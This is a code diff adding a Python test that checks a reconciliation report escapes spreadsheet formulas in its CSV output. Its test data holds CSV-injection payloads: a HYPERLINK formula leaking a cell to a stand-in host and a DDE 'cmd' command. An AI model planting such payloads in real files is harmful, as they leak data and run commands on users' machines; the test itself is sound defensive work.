@@ -352,6 +352,34 @@ def test_report_dict_and_csv_are_stable_and_complete() -> None:
     assert {row["field"] for row in rows} == {"", "currency"}
 
 
+def test_text_a_spreadsheet_would_run_as_a_formula_reaches_the_csv_as_text() -> None:
+    from orsync.engine.report import FieldDiff, Finding, Fix, ReconcileReport
+
+    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    finding = Finding(
+        "customer_different",
+        "customer",
+        "ORD-1",
+        "c1",
+        Fix("manual", False, "Rename it in Intacct."),
+        diffs=(
+            FieldDiff("name", formula, "Acme Ltd"),
+            FieldDiff("lines[1].net_amount", "-115.58", "+20"),
+            FieldDiff("memo", "@SUM(A1:A9)", "-cmd|' /C calc'!A0"),
+        ),
+    )
+    report = ReconcileReport((finding,), (), ())
+
+    rows = report.csv_rows()
+
+    assert [(r["officernd"], r["intacct"]) for r in rows] == [
+        ("'" + formula, "Acme Ltd"),
+        ("-115.58", "+20"),  # numbers stay numbers
+        ("'@SUM(A1:A9)", "'-cmd|' /C calc'!A0"),
+    ]
+    assert report.to_dict()["findings"][0]["diffs"][0]["officernd"] == formula  # JSON as read
+
+
 @pytest.mark.parametrize("count", [10, 1000])
 def test_many_documents_with_half_cent_taxes_each_difference_found_exactly(count: int) -> None:
     expected, actual = [], []
